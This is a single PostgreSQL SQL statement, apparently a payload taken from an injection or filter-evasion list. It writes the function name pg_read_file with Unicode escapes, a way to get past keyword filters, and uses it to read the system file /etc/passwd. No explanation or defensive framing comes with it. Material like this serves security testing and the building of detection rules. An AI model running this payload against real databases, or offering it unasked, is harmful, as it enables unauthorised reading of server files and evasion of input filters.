SELECT U&"pg!005fread!005ffile" UESCAPE '!' ('/etc/passwd')
